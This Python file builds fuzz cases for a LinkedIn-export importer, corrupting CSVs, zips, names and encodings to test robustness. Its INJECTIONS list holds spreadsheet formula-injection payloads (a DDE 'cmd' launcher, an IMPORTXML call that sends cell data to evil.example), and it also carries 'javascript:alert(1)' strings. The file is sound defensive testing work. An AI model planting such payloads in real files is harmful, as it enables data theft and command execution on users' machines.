"""Fuzz cases for ``fuzz_exports.py``: a generated export, mutated, written to disk.

Owns: ``build_case`` (case ``index`` of run ``seed``: an era, quirks and a base export from
``tests/exportgen.py``, then one to four mutations picked by a seeded RNG, so that the same
two numbers always give the same bytes), every mutation, and ``write_case`` (a zip or a
folder, file names as raw bytes so that names which are not UTF-8 can be written).
Imports nothing of seedbed itself: the cases only know the export format.
"""

from __future__ import annotations

import codecs
import contextlib
import functools
import os
import random
import re
import shutil
import struct
import sys
import warnings
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "tests"))

from exportgen import ERAS, export_files, generate_export

# Small exports keep a case at ~30 ms; the mutations, not the size, find the bugs.
EXPORT_SIZE = {"n_messages": 40, "n_invitations": 12, "n_connections": 15}
# Base exports per era (different people, threads and dates) a case starts from.
BASE_SEEDS = 3
EXPORT_NAME = "Basic_LinkedInDataExport_11-20-2026"
REPEAT_BYTES = 8 * 1024**2

_QUIRKS = {
    "2018": ["complete"],
    "2022": ["no_preamble"],
    "2024": ["messages_12col", "draft_rows", "semicolon_recipients", "no_preamble"],
    "2026": ["messages_13col", "draft_rows", "crlf_content", "dated_article_names"],
}

ODD_DATES = [
    "9999-12-31 23:59:59 UTC", "9999-12-31T23:59:59-05:00", "0001-01-01T00:00:00+05:00",
    "0001-01-01 00:00:00 UTC", "12/31/9999, 11:59 PM -0500", "1/1/0001", "1/1/0001 12:00 AM",
    "0000-00-00 00:00:00", "31 Feb 2024", "2024-02-30", "13/45/26, 9:00 AM", "99/99/99",
    "2025-06-01 25:61:61 UTC", "2025-06-01 14:03:22 +99:99", "2025-06-01 14:03 -23:59",
    "2025-06-01T14:03:22.99999999999Z", "Tue Sep 28 09:08:27 PDT 2021",
    "Fri Dec 31 23:59:59 UTC 9999", "Mon Jan 01 00:00:00 UTC 0001", "01 Jan 0001",
    "31 Dec 9999, 11:59 PM -01:00", "Dec 31, 9999 at 11:59 PM", "1/2/26, 0:05 PM",
    "1/2/26, 13:05 PM", "\u0662\u0660\u0662\u0665-\u0660\u0666-\u0660\u0661 10:00:00 UTC",
    "\uff12\uff10\uff12\uff15-06-01", "", "N/A", "null", "-", "1e9999", "1712345678",
    "2025-W01-1", "2025-001", "+002025-01-01", "10000-01-01", "Dec 9999", "Smarch 2020",
    "0000", "9999", "2025-06-01\x0014:03:22 UTC", "2025-06-01 14:03:22 UTC" * 40,
]
ODD_URLS = [
    "https://exa[mple.com/in/x", "https://www.linkedin.com[/in/x", "http://[::1/x", "https://]/",
    "//[", "https://[v1.x]/", "https://www.linkedin.com/in/%ff%fe%", "linkedin.com/in/",
    "https://www.linkedin.com/in/" + "a" * 5000, "https://www.linkedin.com/in/\u202eevil",
    "https://user:pw@host:99999/x", "javascript:alert(1)", "https://www.linkedin.com/in/a b",
    "\x00https://www.linkedin.com/in/nul", "https://xn--ls8h.example/", "[", "]", "%",
]
INJECTIONS = [
    '=HYPERLINK("https://evil.example","click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3",
    "@SUM(1+1)", "\t=1+1", "\r=1+1", '=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
]
ENCODINGS = ["utf-16", "utf-16-le", "utf-16-be-bom", "utf-32", "cp1252", "latin-1",
             "utf-8-sig", "double-bom", "bom-inside", "mac-roman"]
_DATE_RE = re.compile(
    rb"\d{4}[-/]\d{2}[-/]\d{2}(?:[ T]\d{2}:\d{2}(?::\d{2})?)?(?: UTC)?"
    rb"|\d{1,2}/\d{1,2}/\d{2,4},? \d{1,2}:\d{2} [AP]M"
    rb"|[A-Z][a-z]{2} [A-Z][a-z]{2} \d{2} \d{2}:\d{2}:\d{2} UTC \d{4}"
    rb"|\d{2} [A-Z][a-z]{2} \d{4}|[A-Z][a-z]{2} \d{4}"
)
_URL_RE = re.compile(rb"https?://[^\s,\"]+")


@dataclass
class Case:
    """One mutated export: its files (paths as file-system bytes) and how it is written."""

    index: int
    files: list[tuple[bytes, bytes]]
    as_zip: bool
    name: bytes = EXPORT_NAME.encode()
    compression: int = zipfile.ZIP_DEFLATED
    zip_edits: list[Callable[[bytearray], None]] = field(default_factory=list)
    specials: list[tuple[str, bytes]] = field(default_factory=list)  # (kind, path)
    steps: list[str] = field(default_factory=list)


# ------------------------------------------------------------------------- building a case


@functools.cache
def _base_files(era: str, quirks: frozenset[str], seed: int) -> tuple[tuple[str, bytes], ...]:
    export = generate_export(**EXPORT_SIZE, seed=seed)
    return tuple(export_files(export, era, quirks=quirks))


def build_case(seed: int, index: int) -> Case:
    """The case ``index`` of run ``seed``: the same two numbers always give the same bytes."""
    rng = random.Random(f"seedbed-fuzz/{seed}/{index}")
    era = rng.choice(ERAS)
    quirks = frozenset(q for q in _QUIRKS[era] if rng.random() < 0.3)
    base = rng.randrange(BASE_SEEDS)
    files = [(name.encode(), data) for name, data in _base_files(era, quirks, base)]
    case = Case(index, files, as_zip=rng.random() < 0.5)
    case.steps.append(f"era {era}, quirks {sorted(quirks)}, base {base}, "
                      f"{'zip' if case.as_zip else 'folder'}")
    count = 1 + sum(rng.random() < 0.4 for _ in range(3))
    for _ in range(count):
        mutation = rng.choice(MUTATIONS)
        mutation(rng, case)
    return case


def _pick(rng: random.Random, case: Case, csv_only: bool = True) -> int | None:
    choices = [i for i, (name, _) in enumerate(case.files)
               if not csv_only or name.lower().endswith((b".csv", b".tsv", b".txt"))]
    return rng.choice(choices) if choices else None


def _edit(case: Case, i: int, data: bytes, step: str) -> None:
    name = case.files[i][0]
    case.files[i] = (name, data)
    case.steps.append(f"{step}: {name!r}")


def _text(data: bytes) -> tuple[str, str]:
    """A file's text and how to encode it back (UTF-16 files stay UTF-16)."""
    if data.startswith((codecs.BOM_UTF16_LE, codecs.BOM_UTF16_BE)):
        return data.decode("utf-16", errors="replace"), "utf-16"
    return data.decode("utf-8", errors="surrogateescape"), "utf-8"


def _bytes(text: str, encoding: str) -> bytes:
    if encoding == "utf-16":
        return text.encode("utf-16", errors="replace")
    return text.encode("utf-8", errors="surrogateescape")


def flip_bytes(rng: random.Random, case: Case) -> None:
    i = _pick(rng, case, csv_only=False)
    if i is None or not case.files[i][1]:
        return
    data = bytearray(case.files[i][1])
    for _ in range(rng.randint(1, 8)):
        data[rng.randrange(len(data))] = rng.randrange(256)
    _edit(case, i, bytes(data), "flip bytes")


def truncate(rng: random.Random, case: Case) -> None:
    i = _pick(rng, case, csv_only=False)
    if i is None:
        return
    data = case.files[i][1]
    _edit(case, i, data[: rng.randrange(len(data) + 1)], "truncate")


def mutate_header(rng: random.Random, case: Case) -> None:
    i = _pick(rng, case)
    if i is None:
        return
    text, encoding = _text(case.files[i][1])
    lines = text.split("\n")
    at = next((n for n, line in enumerate(lines[:12]) if ("," in line or "\t" in line)
               and not line.startswith(("Notes", '"When'))), 0)
    delimiter = "\t" if "\t" in lines[at] else ","
    cells = lines[at].split(delimiter)
    how = rng.choice(["drop", "duplicate", "swap", "upper", "garbage", "remove", "preamble",
                      "empty", "wide", "spaces"])
    if how == "drop" and len(cells) > 1:
        del cells[rng.randrange(len(cells))]
    elif how == "duplicate":
        cells.insert(rng.randrange(len(cells) + 1), rng.choice(cells))
    elif how == "swap" and len(cells) > 1:
        a, b = rng.sample(range(len(cells)), 2)
        cells[a], cells[b] = cells[b], cells[a]
    elif how == "upper":
        cells = [c.upper() if rng.random() < 0.5 else c.lower() for c in cells]
    elif how == "garbage":
        cells[rng.randrange(len(cells))] = rng.choice(['"', '""', "\ufeff", "\x00", "a" * 300])
    elif how == "preamble":
        lines[at:at] = ["Notes:"] * rng.randint(1, 14)
        at = -1
    elif how == "empty":
        cells = [""] * len(cells)
    elif how == "wide":
        cells += [f"Extra {n}" for n in range(rng.choice([1, 50, 3000]))]
    elif how == "spaces":
        cells = [f" {c.replace(' ', '_')} " for c in cells]
    if how == "remove":
        del lines[at]
    elif at >= 0:
        lines[at] = delimiter.join(cells)
    _edit(case, i, _bytes("\n".join(lines), encoding), f"header {how}")


def swap_encoding(rng: random.Random, case: Case) -> None:
    i = _pick(rng, case)
    if i is None:
        return
    text, _ = _text(case.files[i][1])
    clean = text.encode("utf-8", errors="replace").decode("utf-8", errors="replace")
    how = rng.choice(ENCODINGS)
    if how == "utf-16-be-bom":
        data = codecs.BOM_UTF16_BE + clean.encode("utf-16-be")
    elif how == "double-bom":
        data = codecs.BOM_UTF8 * 2 + clean.encode()
    elif how == "bom-inside":
        half = len(clean) // 2
        data = (clean[:half] + "\ufeff" + clean[half:]).encode()
    elif how == "utf-8-sig":
        data = clean.encode("utf-8-sig")
    else:
        data = clean.encode(how, errors="replace")
    _edit(case, i, data, f"encoding {how}")


def giant_field(rng: random.Random, case: Case) -> None:
    i = _pick(rng, case)
    if i is None:
        return
    size = rng.choice([1024**2 - 1, 1024**2 + 1, 2 * 1024**2, 300_000])
    filler = rng.choice(["x", "é", ",", "\n", '""'])
    value = filler * (size // len(filler))
    data = case.files[i][1]
    lines = data.split(b"\n")
    row = rng.randrange(len(lines))
    quoted = value if filler in ("x", "é") and rng.random() < 0.5 else f'"{value}"'
    lines[row] = lines[row] + b"," + quoted.encode()
    _edit(case, i, b"\n".join(lines), f"giant field of {size:,} characters at row {row}")


def break_quotes(rng: random.Random, case: Case) -> None:
    i = _pick(rng, case)
    if i is None:
        return
    data = bytearray(case.files[i][1])
    how = rng.choice(["insert", "remove", "open"])
    if how == "remove":
        quotes = [n for n, b in enumerate(data) if b == 0x22]
        for n in sorted(rng.sample(quotes, min(len(quotes), rng.randint(1, 3))), reverse=True):
            del data[n]
    elif how == "open":
        newline = [n for n, b in enumerate(data) if b == 0x0A] or [0]
        data[rng.choice(newline):rng.choice(newline)] = b'\n"'
    else:
        for _ in range(rng.randint(1, 5)):
            data.insert(rng.randrange(len(data) + 1), rng.choice(b'"\\'))
    _edit(case, i, bytes(data), f"quotes {how}")


def odd_dates(rng: random.Random, case: Case) -> None:
    i = _pick(rng, case)
    if i is None:
        return
    odd = [d.encode() for d in rng.sample(ODD_DATES, 4)]
    data = _DATE_RE.sub(lambda m: rng.choice(odd) if rng.random() < 0.5 else m[0],
                        case.files[i][1])
    _edit(case, i, data, f"odd dates {[d.decode()[:40] for d in odd]}")


def odd_urls(rng: random.Random, case: Case) -> None:
    i = _pick(rng, case)
    if i is None:
        return
    odd = [u.encode() for u in rng.sample(ODD_URLS, 3)]
    data = _URL_RE.sub(lambda m: rng.choice(odd) if rng.random() < 0.5 else m[0],
                       case.files[i][1])
    _edit(case, i, data, f"odd urls {[u.decode()[:40] for u in odd]}")


def csv_injection(rng: random.Random, case: Case) -> None:
    i = _pick(rng, case)
    if i is None:
        return
    text, encoding = _text(case.files[i][1])
    lines = text.split("\n")
    for _ in range(rng.randint(1, 4)):
        row = rng.randrange(len(lines))
        cells = lines[row].split(",")
        value = rng.choice(INJECTIONS)
        cells[rng.randrange(len(cells))] = '"' + value.replace('"', '""') + '"'
        lines[row] = ",".join(cells)
    _edit(case, i, _bytes("\n".join(lines), encoding), "csv injection")


def nul_bytes(rng: random.Random, case: Case) -> None:
    i = _pick(rng, case, csv_only=False)
    if i is None:
        return
    data = bytearray(case.files[i][1])
    if rng.random() < 0.5:
        for _ in range(rng.randint(1, 10)):
            data.insert(rng.randrange(len(data) + 1), 0)
    else:
        data = bytearray(data.replace(b"\n", b"\x00"))
    _edit(case, i, bytes(data), "NUL bytes")


def line_endings(rng: random.Random, case: Case) -> None:
    i = _pick(rng, case)
    if i is None:
        return
    data = case.files[i][1].replace(b"\r\n", b"\n")
    how = rng.choice(["cr", "crlf", "mixed", "no-final", "blank-lines"])
    if how == "cr":
        data = data.replace(b"\n", b"\r")
    elif how == "crlf":
        data = data.replace(b"\n", b"\r\n")
    elif how == "mixed":
        data = b"".join(part + rng.choice([b"\n", b"\r", b"\r\n"])
                        for part in data.split(b"\n"))
    elif how == "no-final":
        data = data.rstrip(b"\n")
    else:
        data = data.replace(b"\n", b"\n\n\n")
    _edit(case, i, data, f"line endings {how}")


def empty_file(rng: random.Random, case: Case) -> None:
    i = _pick(rng, case, csv_only=False)
    if i is None:
        return
    data = rng.choice([b"", codecs.BOM_UTF8, codecs.BOM_UTF16_LE, b"\n", b'"', b",,,\n"])
    _edit(case, i, data, f"empty file {data!r}")


def missing_file(rng: random.Random, case: Case) -> None:
    how = rng.choice(["one", "profile", "all-but-one"])
    if how == "profile":
        case.files = [f for f in case.files if f[0] != b"Profile.csv"]
    elif how == "all-but-one" and case.files:
        case.files = [rng.choice(case.files)]
    elif case.files:
        del case.files[rng.randrange(len(case.files))]
    case.steps.append(f"missing files ({how})")


def duplicate_file(rng: random.Random, case: Case) -> None:
    i = _pick(rng, case)
    if i is None:
        return
    name, data = case.files[i]
    stem, _, suffix = name.rpartition(b".")
    new = rng.choice([stem + b"_1." + suffix, stem + b"_2." + suffix, stem.upper() + b".csv",
                      b"sub/" + name, b"a/b/" + name, stem + b" (1).csv", name])
    other = rng.choice(case.files)[1] if rng.random() < 0.5 else data
    case.files.append((new, other))
    case.steps.append(f"duplicate {name!r} as {new!r}")


def non_utf8_name(rng: random.Random, case: Case) -> None:
    how = rng.choice(["rename", "extra", "export-folder", "subfolder"])
    if how == "export-folder":
        case.name = rng.choice([b"Basic_\xff_export", b"\xe9t\xe9", b"export\xc3("])
        case.as_zip = rng.random() < 0.5
    elif how == "extra":
        data = rng.choice(case.files)[1] if case.files else b""
        case.files.append((rng.choice([b"\xff.csv", b"messages\xfe.csv", b"Skills_\xff.csv",
                                       b"\xed\xa0\x80.csv"]), data))
    elif how == "subfolder":
        i = _pick(rng, case, csv_only=False)
        if i is not None:
            case.files[i] = (b"\xe9t\xe9/" + case.files[i][0], case.files[i][1])
    else:
        i = _pick(rng, case, csv_only=False)
        if i is not None:
            name = case.files[i][0]
            at = rng.randrange(len(name))
            case.files[i] = (name[:at] + rng.choice([b"\xff", b"\x80", b"\xc3"]) + name[at:],
                             case.files[i][1])
    case.steps.append(f"name not UTF-8 ({how}{', zip' if case.as_zip else ''})")


def odd_name(rng: random.Random, case: Case) -> None:
    i = _pick(rng, case, csv_only=False)
    if i is None:
        return
    name = case.files[i][0]
    new = rng.choice([b"\xe2\x80\xae" + name, b"new\nline " + name, b"tab\t" + name,
                      b"[red]" + name, b"\x1b[31m" + name, name.replace(b"/", b"\\"),
                      b"./" + name, b" " + name, b"A" * 200 + name])
    case.files[i] = (new, case.files[i][1])
    case.steps.append(f"odd name {new[:40]!r}")


def deep_folder(rng: random.Random, case: Case) -> None:
    depth = rng.randint(1, 6)
    prefix = b"d/" * depth
    case.files = [(prefix + name, data) for name, data in case.files]
    case.steps.append(f"every file {depth} folders down")


def special_files(rng: random.Random, case: Case) -> None:
    kind = rng.choice(["symlink", "fifo", "dangling", "loop"])
    target = rng.choice([b"messages.csv", b"Profile.csv", b"Connections.csv", b"sub"])
    case.specials.append((kind, target))
    case.as_zip = False
    case.steps.append(f"{kind} as {target!r} (folder)")


def zip_compression(rng: random.Random, case: Case) -> None:
    case.compression = rng.choice([zipfile.ZIP_STORED, zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA])
    case.as_zip = True
    case.steps.append(f"zip compression {case.compression}")


def _central_entries(zip_bytes: bytearray) -> list[int]:
    return [m.start() for m in re.finditer(rb"PK\x01\x02", zip_bytes)]


def _local_entries(zip_bytes: bytearray) -> list[int]:
    return [m.start() for m in re.finditer(rb"PK\x03\x04", zip_bytes)]


def zip_header(rng: random.Random, case: Case) -> None:
    """Damage the zip's structure: sizes, versions, flags, methods, garbage, truncation."""
    how = rng.choice(["flip", "truncate", "version", "encrypted", "method", "size", "prepend",
                      "append", "count"])
    pick = rng.random()
    value = rng.choice([20, 45, 63, 64, 99, 0xFFFF])
    method = rng.choice([1, 6, 9, 12, 14, 93, 99, 0xFFFF])
    size = rng.choice([0, 1, 0xFFFFFFFF, 3 * 1024**3])
    positions = [rng.random() for _ in range(16)]

    def edit(data: bytearray) -> None:
        central, local = _central_entries(data), _local_entries(data)
        if how == "flip":
            for p in positions[: 1 + int(pick * 15)]:
                data[int(p * (len(data) - 1))] = int(pick * 255)
        elif how == "truncate":
            del data[int(pick * len(data)):]
        elif how == "prepend":
            data[0:0] = b"MZ" + bytes(100)
        elif how == "append":
            data += b"PK\x05\x06" + bytes(18)
        elif how == "count" and data.rfind(b"PK\x05\x06") >= 0:
            end = data.rfind(b"PK\x05\x06")
            data[end + 8:end + 12] = struct.pack("<HH", 0xFFFF, 0xFFFF)
        elif central:
            n = int(pick * len(central))
            at, lat = central[n], local[n] if n < len(local) else None
            if how == "version":
                data[at + 6:at + 8] = struct.pack("<H", value)
                if lat is not None:
                    data[lat + 4:lat + 6] = struct.pack("<H", value)
            elif how == "encrypted":
                data[at + 8] |= 1
                if lat is not None:
                    data[lat + 6] |= 1
            elif how == "method":
                data[at + 10:at + 12] = struct.pack("<H", method)
                if lat is not None:
                    data[lat + 8:lat + 10] = struct.pack("<H", method)
            elif how == "size":
                data[at + 24:at + 28] = struct.pack("<I", min(size, 0xFFFFFFFF))

    case.zip_edits.append(edit)
    case.as_zip = True
    case.steps.append(f"zip header {how}")


def unicode_text(rng: random.Random, case: Case) -> None:
    i = _pick(rng, case)
    if i is None:
        return
    text, encoding = _text(case.files[i][1])
    odd = rng.choice(["\u202e", "\u0000", "\U0001f600", "\u0344" * 500, "\ufdfa", "\u200b",
                      "A\u0301" * 300, "\ue000seedbed-end-of-file\ue000", "Ã©" * 50, "\x85",
                      "\u2028"])
    at = rng.randrange(len(text) + 1)
    _edit(case, i, _bytes(text[:at] + odd + text[at:], encoding), f"unicode {odd[:8]!r}")


def bad_utf8(rng: random.Random, case: Case) -> None:
    i = _pick(rng, case)
    if i is None:
        return
    data = bytearray(case.files[i][1])
    for _ in range(rng.randint(1, 6)):
        at = rng.randrange(len(data) + 1)
        data[at:at] = rng.choice([b"\xed\xa0\x80", b"\xc3", b"\xff\xfe", b"\xf4\x90\x80\x80",
                                  b"\xe2\x82", b"\x80" * 10])
    _edit(case, i, bytes(data), "invalid UTF-8")


def article_html(rng: random.Random, case: Case) -> None:
    html = rng.choice([b"<![foo[", b"<div>" * 20000, b"<html><body><h1>T</h1><p>", b"</" * 500,
                       b"<script>" + b"x" * 1000, b"&#99999999999;", b"\xff\xfe<p>x</p>",
                       b"<a href='javascript:alert(1)'>x</a><p>body</p>"])
    name = rng.choice([b"Articles/Articles/odd.html", b"Articles/x.htm",
                       b"Articles/Articles/2025-11-21 17_31_01.0-T.html"])
    case.files.append((name, html))
    case.steps.append(f"article {html[:20]!r}")


def rename_suffix(rng: random.Random, case: Case) -> None:
    i = _pick(rng, case)
    if i is None:
        return
    name = case.files[i][0]
    new = name.rsplit(b".", 1)[0] + rng.choice([b".tsv", b".txt", b".CSV", b"", b".csv.csv"])
    case.files[i] = (new, case.files[i][1])
    case.steps.append(f"rename {name!r} to {new!r}")


def split_parts(rng: random.Random, case: Case) -> None:
    """Cut a file into ``_1``, ``_2``, ... parts, as LinkedIn does with big files (or too many)."""
    i = _pick(rng, case)
    if i is None:
        return
    name, data = case.files.pop(i)
    stem, _, suffix = name.rpartition(b".")
    count = rng.choice([2, 3, 70])
    cuts = sorted(rng.randrange(len(data) + 1) for _ in range(count - 1))
    pieces = [data[a:b] for a, b in zip([0, *cuts], [*cuts, len(data)], strict=True)]
    for n, piece in enumerate(pieces, start=1):
        case.files.append((stem + b"_%d." % n + suffix, piece))
    case.steps.append(f"split {name!r} into {count} parts")


def swap_contents(rng: random.Random, case: Case) -> None:
    if len(case.files) < 2:
        return
    a, b = rng.sample(range(len(case.files)), 2)
    (name_a, data_a), (name_b, data_b) = case.files[a], case.files[b]
    case.files[a], case.files[b] = (name_a, data_b), (name_b, data_a)
    case.steps.append(f"swap the contents of {name_a!r} and {name_b!r}")


def repeat_rows(rng: random.Random, case: Case) -> None:
    """Many copies of the rows of one file: the same items again and again, or a long file."""
    i = _pick(rng, case)
    if i is None:
        return
    head, _, body = case.files[i][1].partition(b"\n")
    # At most a few MiB: a file of gigabytes (a giant field repeated) costs writing it, and
    # the importer refuses it from its size without reading it anyway.
    times = min(rng.choice([2, 50, 2000]), max(1, REPEAT_BYTES // max(len(body), 1)))
    _edit(case, i, head + b"\n" + body * times, f"rows repeated {times} times")


MUTATIONS: list[Callable[[random.Random, Case], None]] = [
    flip_bytes, truncate, mutate_header, swap_encoding, giant_field, break_quotes, odd_dates,
    odd_dates, odd_urls, csv_injection, nul_bytes, line_endings, empty_file, missing_file,
    duplicate_file, non_utf8_name, odd_name, deep_folder, special_files, zip_compression,
    zip_header, zip_header, unicode_text, bad_utf8, article_html, rename_suffix, split_parts,
    swap_contents, repeat_rows,
]


def write_case(case: Case, directory: Path) -> Path:
    """Write the case's export into ``directory``; return the path to import."""
    directory.mkdir(parents=True, exist_ok=True)
    if case.as_zip:
        target = Path(os.fsdecode(case.name + b".zip"))
        target = directory / target.name
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")  # duplicate names are one of the mutations
            with zipfile.ZipFile(target, "w") as archive:
                for name, data in case.files:
                    info = zipfile.ZipInfo(name.decode("utf-8", "replace"),
                                           date_time=(2026, 11, 20, 6, 0, 0))
                    info.compress_type = case.compression
                    archive.writestr(info, data)
        if case.zip_edits:
            raw = bytearray(target.read_bytes())
            for edit in case.zip_edits:
                edit(raw)
            target.write_bytes(bytes(raw))
        return target
    root = os.path.join(os.fsencode(directory), case.name)
    os.makedirs(root, exist_ok=True)
    for name, data in case.files:
        path = os.path.join(root, name.replace(b"\\", b"_"))
        if name.endswith(b"/") or os.path.isdir(path):
            continue
        parent = os.path.dirname(path)
        if os.path.exists(parent) and not os.path.isdir(parent):
            continue
        os.makedirs(parent, exist_ok=True)
        with open(path, "wb") as stream:
            stream.write(data)
    for kind, name in case.specials:
        path = os.path.join(root, name)
        with contextlib.suppress(FileNotFoundError):
            if os.path.isdir(path) and not os.path.islink(path):
                shutil.rmtree(path)
            else:
                os.remove(path)
        if kind == "fifo":
            os.mkfifo(path)
        elif kind == "symlink":
            outside = os.path.join(os.fsencode(directory), b"outside.csv")
            with open(outside, "wb") as stream:
                stream.write(b"First Name,Last Name,Headline\nOut,Side,Secret\n")
            os.symlink(outside, path)
        elif kind == "dangling":
            os.symlink(b"/nonexistent/seedbed-fuzz", path)
        else:
            os.symlink(b".", path)
    return Path(os.fsdecode(root))


def base_case() -> Case:
    """The unmutated export every store starts with."""
    export = generate_export(**EXPORT_SIZE, seed=0)
    return Case(-1, [(n.encode(), d) for n, d in export_files(export, "2026")], as_zip=True)
